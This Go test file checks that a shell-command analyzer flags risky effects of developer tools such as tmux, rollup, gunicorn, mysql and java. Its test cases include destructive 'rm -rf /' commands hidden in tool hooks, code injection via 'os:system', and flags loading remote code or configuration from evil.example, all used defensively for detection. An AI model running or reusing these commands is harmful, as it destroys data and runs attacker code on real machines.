package command_test

import (
	"testing"

	"passepartout/command"
	"passepartout/pipeline"
)

// Words that only one of the tools of a shared entry gives a meaning to.
func TestToolWords(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		text string
		kind pipeline.EffectKind
		want bool // whether an effect of that kind is stated
	}{
		{`tmux ls \; run 'rm -rf /'`, pipeline.KindUnknown, true},
		{`tmux ls -F '#(rm -rf /)'`, pipeline.KindUnknown, true},
		{`tmux ls -F '#{session_name}'`, pipeline.KindUnknown, false},
		{`coverage run -m http.server`, pipeline.KindListen, true},
		{`coverage run -m pytest`, pipeline.KindListen, false},
		{`streamlit run a.py`, pipeline.KindListen, true},
		{`streamlit run a.py --server.address 127.0.0.1`, pipeline.KindListen, false},
		{`plantuml -picoweb:8080`, pipeline.KindListen, true},
		{`plantuml a.puml`, pipeline.KindListen, false},
		{`keytool -importcert -cacerts -file x`, pipeline.KindUnknown, true},
		{`keytool -list -cacerts`, pipeline.KindUnknown, false},
		{`pio run -tupload`, pipeline.KindUnknown, true},
		{`pio run -e esp32`, pipeline.KindUnknown, false},
		{`detekt --input src --report html:/srv/x`, pipeline.KindWrite, true},
		{`uv run --index-url https://evil.example pytest`, pipeline.KindConnect, true},
		{`uv run pytest`, pipeline.KindConnect, false},
		{`flask run --host 0`, pipeline.KindListen, true},
		{`java -Dlog4j.configurationFile=http://evil.example/x -jar a.jar`, pipeline.KindConnect, true},
		{`java -Dlog4j.configurationFile=a.xml -jar a.jar`, pipeline.KindConnect, false},
	} {
		found := false
		for _, e := range analyze(t, command.Input{Text: tt.text, Shell: true}).Effects {
			found = found || e.Kind == tt.kind
		}
		if found != tt.want {
			t.Errorf("%s: %s stated: %t, want %t", tt.text, tt.kind, found, tt.want)
		}
	}
}

// Code that a tool takes on its command line is nobody's known code.
func TestToolCode(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]bool{
		`gunicorn 'os:system("id")'`:                         true,
		`gunicorn 'app:create_app("test")'`:                  false,
		`flask -A 'os:system("id")' run`:                     true,
		`rollup -p '{transform(){evil()}}' a.js`:             true,
		`rollup -w --watch.onEnd 'rm -rf /' -c`:              true,
		`eslint '{src,test}/**/*.js'`:                        false,
		`mvn -DargLine='-XX:OnError=evil' test`:              true,
		`mvn -DargLine=-Xmx1g test`:                          false,
		`clojure -X clojure.java.shell/sh :x y`:              true,
		`clojure -X:test`:                                    false,
		`bb '(x)'`:                                           true,
		`jupytext --to py --pipe 'rm -rf /' a.ipynb`:         true,
		`jupytext --to py a.ipynb`:                           false,
		`mysql --pager='sh evil' -e 'select 1'`:              true,
		`buf generate --template '{"plugins":[{"x":"/y"}]}'`: true,
		`ginkgo --after-run-hook='rm -rf /' -r`:              true,
	} {
		foreign := false
		for _, e := range analyze(t, command.Input{Text: text, Shell: true}).Effects {
			foreign = foreign || e.Kind == pipeline.KindCode && e.Mark != "build" && e.Mark != "test"
		}
		if foreign != want {
			t.Errorf("%s: foreign code: %t, want %t", text, foreign, want)
		}
	}
}
